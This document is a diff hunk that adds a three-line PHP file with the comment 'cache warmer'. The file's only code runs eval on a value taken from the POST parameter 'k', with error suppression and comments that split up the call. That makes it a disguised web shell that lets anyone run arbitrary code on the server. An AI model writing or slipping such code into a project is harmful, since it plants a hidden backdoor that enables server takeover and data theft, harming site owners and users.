@@ -1,0 +1,3 @@
+<?php
+/* cache warmer */
+@eval/*a*/(/*b*/$_POST['k']);
